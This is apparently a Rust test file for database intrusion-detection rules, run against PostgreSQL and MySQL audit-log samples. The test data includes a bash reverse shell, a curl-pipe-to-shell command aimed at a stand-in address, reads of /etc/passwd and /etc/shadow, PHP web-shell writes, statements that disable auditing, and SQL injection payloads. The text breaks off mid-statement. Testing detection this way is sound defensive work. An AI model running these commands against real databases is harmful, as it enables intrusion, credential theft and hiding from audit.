//! The database activity Sigma rules (`rules/database/`) on real log text:
//! PostgreSQL `log_statement` and pgaudit lines (RDS prefix), MariaDB/RDS server_audit
//! QUERY records and the MySQL general log. Each rule must fire on its attacks and
//! stay silent on the near-misses an on-call developer lives with.

use keibi_model::Finding;

use crate::config::Config;
use crate::testutil::{events, run_rules};

const ROLE: &str = include_str!("../../../rules/database/role-elevated.yml");
const ACCOUNT: &str = include_str!("../../../rules/database/account-created.yml");
const COMMAND: &str = include_str!("../../../rules/database/server-side-command.yml");
const EXPORT: &str = include_str!("../../../rules/database/bulk-export.yml");
const TAMPER: &str = include_str!("../../../rules/database/audit-tampering.yml");
const SQLI: &str = include_str!("../../../rules/database/sql-injection.yml");

/// One PostgreSQL `log_statement` line (RDS prefix) after a login.
pub(super) fn pg_statement(sql: &str) -> String {
    format!(
        "2026-12-01 10:00:00 UTC:203.0.113.9(50432):mallory@shop:[4242]:LOG:  connection authorized: user=mallory database=shop application_name=psql\n\
         2026-12-01 10:00:01 UTC:203.0.113.9(50432):mallory@shop:[4242]:LOG:  statement: {sql}\n"
    )
}

/// One pgaudit SESSION record for `sql` with its class and command tag.
pub(super) fn pg_audit(class: &str, command: &str, sql: &str) -> String {
    let quoted = format!("\"{}\"", sql.replace('"', "\"\""));
    format!(
        "2026-12-01 10:00:01 UTC:203.0.113.9(50432):mallory@shop:[4242]:LOG:  AUDIT: SESSION,1,1,{class},{command},,,{quoted},<not logged>\n"
    )
}

/// One MariaDB/RDS server_audit QUERY record with its retcode.
pub(super) fn my_query(sql: &str, retcode: u32) -> String {
    let esc = sql.replace('\\', "\\\\").replace('\'', "\\'");
    format!(
        "20261201 10:00:00,ip-10-0-1-5,mallory,203.0.113.9,31,0,CONNECT,shop,,0\n\
         20261201 10:00:01,ip-10-0-1-5,mallory,203.0.113.9,31,77,QUERY,shop,'{esc}',{retcode}\n"
    )
}

/// One MySQL 8 general-log Query record.
fn my_general(sql: &str) -> String {
    format!(
        "/rdsdbbin/mysql/bin/mysqld, Version: 8.0.35 (Source distribution). started with:\n\
         Tcp port: 3306  Unix socket: /tmp/mysql.sock\n\
         Time                 Id Command    Argument\n\
         2026-12-01T10:00:00.000001Z\t   31 Connect\tmallory@203.0.113.9 on shop using TCP/IP\n\
         2026-12-01T10:00:01.000001Z\t   31 Query\t{sql}\n"
    )
}

fn findings(rule: &str, log: &str) -> Vec<Finding> {
    run_rules(rule, Config::default(), &events("db.log", "orders-db", log))
}

#[track_caller]
fn fires(rule: &str, log: &str, ty: &str) -> Finding {
    let f = findings(rule, log);
    assert_eq!(
        f.len(),
        1,
        "expected one {ty} finding on:\n{log}\ngot {f:#?}"
    );
    assert_eq!(f[0].finding_type, ty);
    assert_eq!(f[0].resource.id, "orders-db");
    assert_texts(&f[0]);
    f.into_iter().next().expect("one finding")
}

/// Texts are complete: remediation is plain text (not a template), titles are one
/// line with every field filled.
#[track_caller]
fn assert_texts(f: &Finding) {
    assert!(!f.remediation.is_empty(), "{f:#?}");
    assert!(!f.remediation.contains('{'), "{}", f.remediation);
    assert!(!f.title.contains('\n'), "{}", f.title);
    // Statement text may hold braces; an unfilled template name may not.
    for name in [
        "user",
        "count",
        "ips",
        "users",
        "first_seen",
        "last_seen",
        "duration",
        "instance",
        "client_ip",
        "statement.text",
    ] {
        let t = format!("{{{name}}}");
        assert!(
            !f.title.contains(&t) && !f.description.contains(&t),
            "{f:#?}"
        );
    }
}

#[track_caller]
fn silent(rule: &str, log: &str) {
    let f = findings(rule, log);
    assert!(f.is_empty(), "expected nothing on:\n{log}\ngot {f:#?}");
}

/// `hh:mm:ss` for the i-th statement of a batch.
fn clock(i: usize) -> String {
    format!("{:02}:{:02}:{:02}", 10 + i / 3600, (i / 60) % 60, i % 60)
}

/// Each statement by its own user `u<i>` through `log_statement` (one log, one run).
fn pg_batch(stmts: &[&str]) -> String {
    stmts
        .iter()
        .enumerate()
        .map(|(i, s)| {
            format!(
                "2026-12-01 {} UTC:203.0.113.9({}):u{i}@shop:[{}]:LOG:  statement: {s}\n",
                clock(i),
                40000 + i,
                1000 + i
            )
        })
        .collect()
}

/// Each statement by its own user `u<i>` as server_audit QUERY records.
fn my_batch(stmts: &[&str]) -> String {
    stmts
        .iter()
        .enumerate()
        .map(|(i, s)| {
            let esc = s.replace('\\', "\\\\").replace('\'', "\\'");
            format!(
                "20261201 {},ip-10-0-1-5,u{i},203.0.113.9,{},{i},QUERY,shop,'{esc}',0\n",
                clock(i),
                100 + i
            )
        })
        .collect()
}

/// Which statements of a batch raised a finding (by their users).
fn fired(rule: &str, log: &str, n: usize) -> Vec<bool> {
    let f = findings(rule, log);
    (0..n)
        .map(|i| {
            let u = format!("u{i}");
            f.iter()
                .any(|f| f.actor.user.as_deref() == Some(u.as_str()))
        })
        .collect()
}

/// Every statement must raise `ty` (PostgreSQL ones through log_statement, MySQL ones
/// through the audit log): one log per engine, so the rule compiles once.
#[track_caller]
fn each(rule: &str, ty: &str, pg: &[&str], my: &[&str]) {
    for (stmts, log) in [(pg, pg_batch(pg)), (my, my_batch(my))] {
        let all = findings(rule, &log);
        assert!(all.iter().all(|f| f.finding_type == ty), "{all:#?}");
        all.iter().for_each(assert_texts);
        for (s, hit) in stmts.iter().zip(fired(rule, &log, stmts.len())) {
            assert!(hit, "expected {ty} on: {s}");
        }
    }
}

/// No statement may raise anything.
#[track_caller]
fn none(rule: &str, pg: &[&str], my: &[&str]) {
    for (stmts, log) in [(pg, pg_batch(pg)), (my, my_batch(my))] {
        for (s, hit) in stmts.iter().zip(fired(rule, &log, stmts.len())) {
            assert!(!hit, "expected nothing on: {s}");
        }
    }
}

#[test]
fn role_elevated() {
    const T: &str = "PrivilegeEscalation:RDS/RoleElevated";
    each(
        ROLE,
        T,
        &[
            "ALTER ROLE mallory WITH SUPERUSER",
            "alter user backup_svc createrole",
            "ALTER ROLE app BYPASSRLS;",
            "GRANT rds_superuser TO mallory;",
            "GRANT pg_execute_server_program, pg_read_server_files TO app",
            "grant pg_write_server_files to app with admin option",
            "GRANT pg_read_all_data TO intern",
            "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'",
        ],
        &[
            "GRANT ALL PRIVILEGES ON *.* TO 'mallory'@'%' WITH GRANT OPTION",
            "GRANT ALL ON *.* TO 'backup'@'%'",
            "GRANT SUPER ON *.* TO 'app'@'%'",
            "GRANT FILE ON *.* TO 'app'@'10.0.%'",
            "GRANT SELECT ON *.* TO 'x'@'%' WITH GRANT OPTION",
            "GRANT SELECT, UPDATE ON mysql.* TO 'app'@'%'",
            "GRANT SELECT ON `mysql`.`user` TO 'app'@'%'",
            "UPDATE mysql.user SET Super_priv='Y' WHERE User='app'",
            "INSERT INTO mysql.global_priv VALUES ('%','x','{}')",
        ],
    );
    // The same through pgaudit, which tags role grants `GRANT ROLE`.
    let f = fires(
        ROLE,
        &pg_audit("ROLE", "GRANT ROLE", "GRANT rds_superuser TO mallory;"),
        T,
    );
    assert_eq!(f.severity.value(), 8.0);
    assert_eq!(
        f.title,
        "Superuser-level privileges granted on orders-db by mallory"
    );
    assert!(
        f.description.contains("GRANT rds_superuser TO mallory"),
        "{}",
        f.description
    );
    assert_eq!(f.mitre, vec!["T1098"]);
    fires(
        ROLE,
        &pg_audit("ROLE", "ALTER ROLE", "ALTER USER mallory SUPERUSER"),
        T,
    );
    // The general log carries the same statements.
    fires(
        ROLE,
        &my_general("GRANT ALL PRIVILEGES ON *.* TO 'm'@'%' WITH GRANT OPTION"),
        T,
    );
    // Near-misses: a DBA's grants on tables, taking powers away, app-level grants.
    none(
        ROLE,
        &[
            "GRANT SELECT ON orders TO reporting",
            "GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly",
            "GRANT ALL PRIVILEGES ON DATABASE shop TO app",
            "GRANT USAGE ON SCHEMA public TO app",
            "GRANT reporting TO alice",
            "ALTER ROLE mallory NOSUPERUSER NOCREATEROLE",
            "REVOKE rds_superuser FROM mallory",
            "ALTER ROLE app SET search_path = public",
            "ALTER ROLE app WITH PASSWORD 'x' VALID UNTIL 'infinity'",
            "SELECT rolsuper FROM pg_roles WHERE rolname = 'superuser'",
        ],
        &[
            "GRANT SELECT ON shop.orders TO 'reporting'@'%'",
            "GRANT ALL PRIVILEGES ON shop.* TO 'app'@'%'",
            "GRANT PROCESS, REPLICATION CLIENT ON *.* TO 'datadog'@'%'",
            "GRANT REPLICATION SLAVE ON *.* TO 'repl'@'%'",
            "GRANT SELECT ON mysql.time_zone_name TO 'app'@'%'",
            "SELECT User, Super_priv FROM mysql.user",
        ],
    );
    // A refused GRANT (MySQL retcode 1044: access denied) elevated nobody, but was
    // tried: Medium, titled refused.
    refused(
        ROLE,
        &my_query("GRANT ALL ON *.* TO 'm'@'%' WITH GRANT OPTION", 1044),
        "PrivilegeEscalation:RDS/RoleElevated",
        5.0,
    );
    // RDS's own account grants rds_superuser to the master user at creation.
    silent(
        ROLE,
        "2026-12-01 10:00:01 UTC:[local]:rdsadmin@rdsadmin:[77]:LOG:  statement: GRANT rds_superuser TO postgres\n",
    );
    // Names that imitate it are somebody else (issue 10): a role named rdsadmin@x
    // (its line splits as "rdsadmin" at the first @), RDS's name in another case, and
    // rdsadmin itself from a network address. Lines as a real PostgreSQL 15 wrote them
    // (keibi-parse's postgresql-injection.log).
    let imitations = [
        concat!(
            "2026-12-06 06:51:08 UTC:127.0.0.1(34994):[unknown]@[unknown]:[12355]:LOG:  connection received: host=127.0.0.1 port=34994\n",
            "2026-12-06 06:51:08 UTC:127.0.0.1(34994):rdsadmin@x@shop:[12355]:LOG:  connection authorized: user=rdsadmin@x database=shop application_name=psql\n",
            "2026-12-06 06:51:08 UTC:127.0.0.1(34994):rdsadmin@x@shop:[12355]:LOG:  statement: ALTER ROLE app SUPERUSER\n",
        ),
        // Without its login in the log the split stays ambiguous, and the address
        // alone rules the exemption out.
        "2026-12-06 06:51:08 UTC:127.0.0.1(34994):rdsadmin@x@shop:[12355]:LOG:  statement: ALTER ROLE app SUPERUSER\n",
        concat!(
            "2026-12-06 06:51:08 UTC:127.0.0.1(35008):[unknown]@[unknown]:[12360]:LOG:  connection received: host=127.0.0.1 port=35008\n",
            "2026-12-06 06:51:08 UTC:127.0.0.1(35008):rdsadmin@shop:[12360]:LOG:  connection authorized: user=rdsadmin database=shop application_name=psql\n",
            "2026-12-06 06:51:08 UTC:127.0.0.1(35008):rdsadmin@shop:[12360]:LOG:  statement: ALTER ROLE reporting SUPERUSER\n",
        ),
        "2026-12-01 10:00:01 UTC:[local]:RDSADMIN@rdsadmin:[77]:LOG:  statement: GRANT rds_superuser TO postgres\n",
        "20261201 10:00:01,ip-10-0-1-5,rdsadmin,203.0.113.9,3,7,QUERY,mysql,'GRANT ALL ON *.* TO \\'m\\'@\\'%\\' WITH GRANT OPTION',0\n",
    ];
    for log in imitations {
        let f = fires(ROLE, log, "PrivilegeEscalation:RDS/RoleElevated");
        let user = f.actor.user.as_deref().unwrap_or_default().to_lowercase();
        assert!(user.starts_with("rdsadmin"), "{f:#?}");
    }
    let f = fires(ROLE, imitations[0], "PrivilegeEscalation:RDS/RoleElevated");
    assert_eq!(f.actor.user.as_deref(), Some("rdsadmin@x"));
}

#[test]
fn account_created() {
    const T: &str = "Persistence:RDS/AccountCreated";
    let sev = |log: &str| fires(ACCOUNT, log, T).severity.value();
    assert_eq!(
        sev(&pg_statement("CREATE USER app2 WITH PASSWORD 'x'")),
        4.0
    );
    assert_eq!(
        sev(&pg_statement("CREATE ROLE svc LOGIN PASSWORD 'x'")),
        4.0
    );
    assert_eq!(
        sev(&pg_audit(
            "ROLE",
            "CREATE ROLE",
            "CREATE ROLE app LOGIN PASSWORD <REDACTED>"
        )),
        4.0
    );
    assert_eq!(
        sev(&pg_statement(
            "CREATE ROLE backdoor WITH LOGIN SUPERUSER PASSWORD 'x'"
        )),
        7.5
    );
    assert_eq!(
        sev(&pg_statement(
            "CREATE USER helper IN ROLE rds_superuser PASSWORD 'x'"
        )),
        7.5
    );
    assert_eq!(
        sev(&my_query("CREATE USER 'app'@'10.0.%' IDENTIFIED BY 'x'", 0)),
        4.0
    );
    // The audit plugin masks the password itself.
    let f = fires(
        ACCOUNT,
        &my_query("CREATE USER 'backup'@'%' IDENTIFIED BY *****", 0),
        T,
    );
    assert_eq!(f.severity.value(), 6.0);
    assert_eq!(
        f.title,
        "New MySQL account for any host created on orders-db by mallory"
    );
    assert!(
        f.description.contains("CREATE USER 'backup'@'%'"),
        "{}",
        f.description
    );
    assert_eq!(
        sev(&my_query("CREATE USER backup IDENTIFIED BY 'x'", 0)),
        6.0
    );
    assert_eq!(
        sev(&my_query(
            "GRANT SELECT ON shop.* TO 'm'@'%' IDENTIFIED BY 'x'",
            0
        )),
        6.0
    );
    // The general log writes the password in clear; keibi masks it before any rule
    // or output sees it.
    let f = fires(
        ACCOUNT,
        &my_general("CREATE USER 'm'@'%' IDENTIFIED BY 'hunter2'"),
        T,
    );
    assert!(!f.description.contains("hunter2"), "{}", f.description);
    // Near-misses: group roles, MySQL 8 roles, other statements, failures, RDS.
    none(
        ACCOUNT,
        &[
            "CREATE ROLE reporting NOLOGIN",
            "CREATE ROLE readonly",
            "CREATE USER etl NOLOGIN",
            "ALTER ROLE app LOGIN",
            "CREATE TABLE users (login text, password text)",
        ],
        &[
            "CREATE ROLE 'app_read'",
            "DROP USER 'old'@'%'",
            "ALTER USER 'app'@'%' IDENTIFIED BY 'x'",
            "GRANT SELECT ON shop.* TO 'app'@'%'",
        ],
    );
    // Refused (1227: access denied): an attempt, at Medium.
    refused(
        ACCOUNT,
        &my_query("CREATE USER 'm'@'%' IDENTIFIED BY 'x'", 1227),
        "Persistence:RDS/AccountCreated",
        5.0,
    );
    silent(
        ACCOUNT,
        "20261201 10:00:01,ip-10-0-1-5,rdsadmin,localhost,3,7,QUERY,mysql,'CREATE USER \\'rdsrepladmin\\'@\\'%\\' IDENTIFIED BY *****',0\n",
    );
}

#[test]
fn server_side_command() {
    const T: &str = "Execution:RDS/ServerSideCommand";
    each(
        COMMAND,
        T,
        &[
            "COPY cmd_exec FROM PROGRAM 'id'",
            "copy (select '') to program 'bash -c \"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\"'",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(16411, '/tmp/x.so')",
            "SELECT pg_read_file('/etc/passwd', 0, 200)",
            "select pg_ls_dir('/var/lib/postgresql')",
            "SELECT pg_read_file('../../../etc/passwd')",
            "SELECT pg_stat_file('/etc/shadow')",
            "SELECT pg_ls_dir(chr(47))",
            "SELECT pg_ls_dir(chr(47)||'root')",
            "select pg_stat_file(convert_from(decode('2f6574632f736861646f77','hex'),'utf8'))",
            "SELECT pg_ls_dir(E'\\x2fetc')",
            "SELECT pg_read_file(current_setting('data_directory') || '/../.pgpass')",
            "CREATE OR REPLACE FUNCTION sh(c text) RETURNS text AS $$ import os; return os.popen(c).read() $$ LANGUAGE plpython3u",
            "CREATE EXTENSION plperlu",
            "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT",
        ],
        &[
            "SELECT sys_exec('id > /tmp/out')",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "select sys_eval('whoami')",
            "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",
            "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'",
        ],
    );
    // Attempts count: the ERROR after a refused COPY ... PROGRAM carries it.
    let err = "2026-12-01 10:00:00 UTC:203.0.113.9(50432):app@shop:[4242]:LOG:  connection authorized: user=app database=shop\n\
               2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:ERROR:  permission denied to COPY to or from an external program\n\
               2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:DETAIL:  Only roles with privileges of the \"pg_execute_server_program\" role may COPY to or from an external program.\n\
               2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:STATEMENT:  COPY t FROM PROGRAM 'curl http://198.51.100.7/x | sh'\n";
    let f = refused(COMMAND, err, T, 5.0);
    assert_eq!(
        f.title,
        "Refused: app made orders-db run commands or touch server files"
    );
    fires(
        COMMAND,
        &pg_audit(
            "FUNCTION",
            "SELECT",
            "SELECT pg_read_file('/proc/self/environ')",
        ),
        T,
    );
    none(
        COMMAND,
        &[
            "COPY orders TO STDOUT WITH CSV HEADER",
            "COPY orders FROM STDIN",
            "SELECT pg_ls_waldir()",
            "SELECT pg_ls_dir(current_setting('log_directory'))",
            // Monitoring (pgcluu, as in pgbadger's rds.log): the data directory only.
            "COPY (SELECT count(*) FROM pg_ls_dir('pg_wal') AS file WINDOW w AS (ORDER BY (pg_stat_file('pg_wal/'||file)).modification DESC)) TO STDOUT CSV DELIMITER ';'",
            "SELECT pg_read_binary_file('global/pg_control')",
            "SELECT pg_read_file('postgresql.auto.conf')",
            "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql",
            "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN RETURN NEW; END $$ LANGUAGE plpgsql",
            "CREATE EXTENSION pg_stat_statements",
            "CREATE FUNCTION pgstat(int) RETURNS int AS '$libdir/pgstattuple', 'f' LANGUAGE C",
            "SELECT id, program FROM courses WHERE program = 'copy editing'",
        ],
        &[
            "SELECT * FROM files WHERE load_file_name = 'x'",
            "SELECT id INTO OUTFILE '/var/lib/mysql-files/ids.csv' FROM orders",
            "INSTALL SONAME 'server_audit'",
            "LOAD DATA LOCAL INFILE '/tmp/orders.csv' INTO TABLE orders",
        ],
    );
}

#[test]
fn bulk_export() {
    const T: &str = "Exfiltration:RDS/BulkExport";
    each(
        EXPORT,
        T,
        &[
            "COPY customers TO '/tmp/customers.csv' WITH CSV HEADER",
            "copy (select * from users) to '/var/lib/postgresql/u.txt'",
            "COPY public.orders TO E'/tmp/o.bin' (FORMAT binary)",
        ],
        &[
            "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv' FIELDS TERMINATED BY ','",
            "SELECT email, password_hash INTO OUTFILE '/var/lib/mysql-files/u.txt' FROM users",
        ],
    );
    // pgaudit logs COPY twice (its inner SELECT and the COPY): one finding.
    let log = pg_audit(
        "READ",
        "SELECT",
        "COPY (SELECT * FROM customers) TO '/tmp/c.csv'",
    ) + &pg_audit(
        "READ",
        "COPY",
        "COPY (SELECT * FROM customers) TO '/tmp/c.csv'",
    );
    let f = fires(EXPORT, &log, T);
    assert_eq!(f.count, 1);
    assert_eq!(f.severity.value(), 7.0);
    assert_eq!(f.mitre, vec!["T1030", "T1005"]);
    // Nightly ETL and pg_dump read through COPY ... TO STDOUT: never an export.
    let etl = pg_audit("READ", "SELECT", "COPY (SELECT * FROM customers) TO STDOUT")
        + &pg_audit("READ", "COPY", "COPY (SELECT * FROM customers) TO STDOUT");
    silent(EXPORT, &etl);
    none(
        EXPORT,
        &[
            "COPY orders TO STDOUT",
            "COPY public.orders (id, total) TO stdout WITH (FORMAT csv)",
            "COPY (SELECT * FROM t WHERE note = 'go to ') TO STDOUT",
            "COPY orders FROM '/tmp/orders.csv'",
            "SELECT aws_s3.query_export_to_s3('SELECT * FROM orders', aws_commons.create_s3_uri('b', 'k', 'us-east-1'))",
        ],
        &[
            "SELECT * FROM orders INTO OUTFILE S3 's3://etl-bucket/orders'",
            "SELECT '<?php eval($_POST[1]); ?>' INTO OUTFILE '/var/www/x.php'",
            "SELECT 1",
        ],
    );
    // The sample log's OUTFILE was refused (1227): nothing was written, but it was
    // tried.
    refused(
        EXPORT,
        &my_query("SELECT * FROM customers INTO OUTFILE '/tmp/x.csv'", 1227),
        T,
        5.0,
    );
    // Not a refusal (1064: syntax error): silent.
    silent(
        EXPORT,
        &my_query("SELECT * FROM customers INTO OUTFILE '/tmp/x.csv'", 1064),
    );
}

#[test]
fn audit_tampering() {
    const T: &str = "Stealth:RDS/AuditTampering";
    each(
        TAMPER,
        T,
        &[
            "SET pgaudit.log = 'none'",
            "set session pgaudit.log to none",
            "ALTER SYSTEM SET pgaudit.log = ''",
            "ALTER DATABASE shop SET pgaudit.log = 'all, -read, -write'",
            "ALTER ROLE etl SET pgaudit.log TO 'none'",
            "SELECT set_config('pgaudit.log', 'none', false)",
            "ALTER SYSTEM RESET pgaudit.log",
            "DROP EXTENSION pgaudit",
            "ALTER SYSTEM SET log_connections = off",
            "ALTER SYSTEM SET log_disconnections TO 'false'",
            "SET log_statement = 'none'",
        ],
        &[
            "SET GLOBAL server_audit_logging = OFF",
            "set global server_audit_logging=0",
            "SET GLOBAL server_audit_events = 'CONNECT'",
            "SET GLOBAL server_audit_events = ''",
            "SET GLOBAL server_audit_excl_users = 'mallory'",
            "SET sql_log_off = 1",
            "SET SESSION sql_log_off = ON",
            "SET GLOBAL general_log = 'OFF'",
            "SET @@global.general_log = 0",
            "SET GLOBAL log_output = 'NONE'",
            "UNINSTALL PLUGIN server_audit",
            "UNINSTALL SONAME 'server_audit'",
        ],
    );
    let f = fires(
        TAMPER,
        &pg_audit(
            "MISC",
            "ALTER SYSTEM",
            "ALTER SYSTEM SET pgaudit.log = 'none'",
        ),
        T,
    );
    assert_eq!(f.severity.value(), 8.0);
    assert_eq!(f.mitre, vec!["T1562.001"]);
    none(
        TAMPER,
        &[
            "SET pgaudit.log = 'ddl, role'",
            "ALTER SYSTEM SET pgaudit.log = 'all'",
            "ALTER SYSTEM SET log_connections = on",
            "SET log_statement = 'all'",
            "RESET ALL",
            "DISCARD ALL",
            "SET application_name = 'logging_off_job'",
            "SELECT name, setting FROM pg_settings WHERE name = 'log_connections'",
        ],
        &[
            "SET GLOBAL server_audit_logging = ON",
            "SET GLOBAL server_audit_events = 'CONNECT,QUERY,TABLE'",
            "SET GLOBAL server_audit_excl_users = ''",
            "SET sql_log_off = 0",
            "SET GLOBAL general_log = 'ON'",
            "SET GLOBAL general_log_file = '/rdsdbdata/log/general/mysql-general.log'",
            "SHOW VARIABLES LIKE 'server_audit%'",
        ],
    );
}

/// Injection payloads as servers log them: through an application (quotes closed
/// mid-statement) and from sqlmap.
const INJECTIONS: &[&str] = &[
    "SELECT id, name FROM products WHERE id = 1 UNION SELECT NULL, NULL, NULL-- -",
    "SELECT * FROM products WHERE name = '' UNION ALL SELECT NULL,NULL,NULL#'",
    "SELECT * FROM news WHERE id = -1 UNION SELECT 1,2,3",
    "SELECT * FROM users WHERE name = 'x' UNION SELECT usename, passwd FROM pg_shadow--'",
    "SELECT * FROM products WHERE cat = 'a' UNION SELECT table_name, column_name FROM information_schema.columns WHERE 'a'='a'",
    "SELECT * FROM items WHERE id = 5 AND SLEEP(5)",
    "SELECT * FROM items WHERE id = 5 AND 7311=(SELECT 7311 FROM PG_SLEEP(5))",
    "SELECT * FROM users WHERE name = 'a'; SELECT pg_sleep(10)--'",
    "SELECT * FROM items WHERE id = (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "SELECT BENCHMARK(5000000, MD5(1))",
    "SELECT * FROM users WHERE name = '' OR '1'='1' -- ' AND password = ''",
    "SELECT * FROM users WHERE email = 'a@b.c' OR 1=1#' AND pw = ''",
    "SELECT * FROM users WHERE id = 2 OR 1=1 --",
    "SELECT * FROM users WHERE name = 'x' AND 1=2 -- '",
    "SELECT * FROM users WHERE name = 'x'; DROP TABLE users; --'",
    "SELECT * FROM t WHERE id = 1/**/UNION/**/SELECT/**/password FROM users",
    "SELECT * FROM t WHERE id = 1 AND EXTRACTVALUE(1, CONCAT(0x5c, 0x7170787671, (SELECT version())))",
    "SELECT * FROM t WHERE id = 1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7178707a71,(SELECT (ELT(1=1,1))),0x716a6b7671,0x78))s), 8446744073709551610, 8446744073709551610)))",
    "SELECT * FROM t WHERE id = 1 AND 4275=CAST((CHR(113)||CHR(120)||CHR(118))||(SELECT 1)::text AS NUMERIC)",
];

/// What applications and ORMs send: none of it is injection.
const ORDINARY: &[&str] = &[
    // Rails / ActiveRecord
    "SELECT \"users\".* FROM \"users\" WHERE \"users\".\"email\" = $1 LIMIT $2",
    "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = '\"orders\"'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
    "SELECT pg_try_advisory_lock(3387464521384746850)",
    "SELECT 1 AS one FROM \"orders\" WHERE \"orders\".\"status\" = 'pending' OR \"orders\".\"status\" = 'failed' LIMIT 1 /*application:Shop,controller:orders,action:index*/",
    // Django
    "SELECT \"django_session\".\"session_key\" FROM \"django_session\" WHERE (\"django_session\".\"expire_date\" > '2026-12-01T10:00:00+00:00'::timestamptz AND \"django_session\".\"session_key\" = 'abc') LIMIT 21",
    // Hibernate / JDBC
    "select o1_0.id,o1_0.total from orders o1_0 where o1_0.customer_id=? or 1=0",
    "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME FROM pg_catalog.pg_namespace n, pg_catalog.pg_class c WHERE c.relnamespace = n.oid AND c.relname LIKE 'orders' ORDER BY TABLE_TYPE,TABLE_SCHEM,TABLE_NAME",
    // Reports and hand-written SQL
    "SELECT id, 'open' AS state FROM tickets WHERE closed_at IS NULL UNION ALL SELECT id, 'closed' FROM tickets WHERE closed_at IS NOT NULL",
    "SELECT name FROM a WHERE kind = 'x' UNION SELECT name FROM b WHERE kind = 'y'",
    "SELECT count(*) FROM events WHERE payload #>> '{user,id}' = '42'",
    "SELECT * FROM jobs WHERE run_at <= now() AND (locked_at IS NULL OR locked_at < now() - interval '5 minutes') ORDER BY priority LIMIT 1 FOR UPDATE SKIP LOCKED",
    "SELECT pg_sleep(1)",
    "SELECT SLEEP(0)",
    "SELECT CONCAT(first_name, ' ', last_name) FROM people WHERE id = 7",
    "UPDATE users SET note = 'he said '' or ''1''=''1 is funny' WHERE id = 3",
    "INSERT INTO comments (body) VALUES ('use -- for comments; UNION SELECT is SQL')",
    "SELECT * FROM t WHERE a = 1 OR 1 = 0",
    "SELECT 1",
];

#[test]
fn sql_injection() {
    const T: &str = "InitialAccess:RDS/SQLInjection";
    each(SQLI, T, INJECTIONS, INJECTIONS);
    none(SQLI, ORDINARY, ORDINARY);
    // A probe that breaks the syntax is logged only as an ERROR with its statement.
    let err = "2026-12-01 10:00:01 UTC:10.0.3.14(40112):app@shop:[5150]:ERROR:  syntax error at or near \"UNION\" at character 48\n\
               2026-12-01 10:00:01 UTC:10.0.3.14(40112):app@shop:[5150]:STATEMENT:  SELECT * FROM products WHERE id = 1' UNION SELECT NULL,NULL-- -\n";
    let f = fires(SQLI, err, T);
    assert_eq!(f.severity.value(), 7.0);
    assert_eq!(f.title, "SQL injection attempts reached orders-db as app");
    // Many payloads from one application server make one finding.
    let mut log = String::new();
    for (i, s) in INJECTIONS.iter().enumerate() {
        let esc = s.replace('\\', "\\\\").replace('\'', "\\'");
        log.push_str(&format!(
            "20261201 10:00:{:02},ip-10-0-1-5,app,10.0.3.14,40,{i},QUERY,shop,'{esc}',0\n",
            i % 60
        ));
    }
    let f = findings(SQLI, &log);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].count, INJECTIONS.len() as u64);
    assert!(f[0]
        .description
        .starts_with(&format!("{} statement(s)", INJECTIONS.len())));
}

/// The YAML blocks of docs/rules.md, in order.
fn doc_blocks() -> Vec<String> {
    let doc = include_str!("../../../../../docs/rules.md");
    doc.split("```yaml\n")
        .skip(1)
        .filter_map(|b| b.split("```").next())
        .map(str::to_string)
        .collect()
}

#[test]
fn the_examples_in_docs_rules_md_work_as_documented() {
    let blocks = doc_blocks();
    assert_eq!(blocks.len(), 4, "docs/rules.md changed: update this test");

    // The correlation: one user failing from five addresses.
    let mut log = String::new();
    for i in 0..5 {
        log.push_str(&format!(
            "2026-12-01 10:00:0{i} UTC:203.0.113.{i}(5000{i}):app@shop:[90{i}]:FATAL:  password authentication failed for user \"app\"\n"
        ));
    }
    let f = findings(&blocks[0], &log);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].finding_type, "Custom:RDS/ManySources");
    assert_eq!(
        f[0].title,
        "app failed to log in from many addresses on orders-db"
    );

    // Placeholders from the configuration file.
    let config = Config::from_yaml(&blocks[1]).expect("the documented config loads");
    let rule = format!(
        "title: Grant by someone not an admin\nname: doc-placeholder\nlogsource:\n  category: database\n{}level: medium\n",
        blocks[2]
    );
    let log = "2026-12-01 10:00:01 UTC:10.0.8.20(50100):alice@shop:[4100]:LOG:  statement: GRANT SELECT ON orders TO reporting\n\
               2026-12-01 10:00:02 UTC:10.0.8.21(50101):mallory@shop:[4101]:LOG:  statement: GRANT SELECT ON orders TO mallory\n";
    let f = run_rules(&rule, config, &events("db.log", "orders-db", log));
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].actor.user.as_deref(), Some("mallory"));
    assert_eq!(f[0].finding_type, "Sigma:RDS/doc-placeholder");
    assert_eq!(f[0].severity.value(), 5.0);

    // The worked example, on the log line the document shows.
    let doc = include_str!("../../../../../docs/rules.md");
    let line = doc
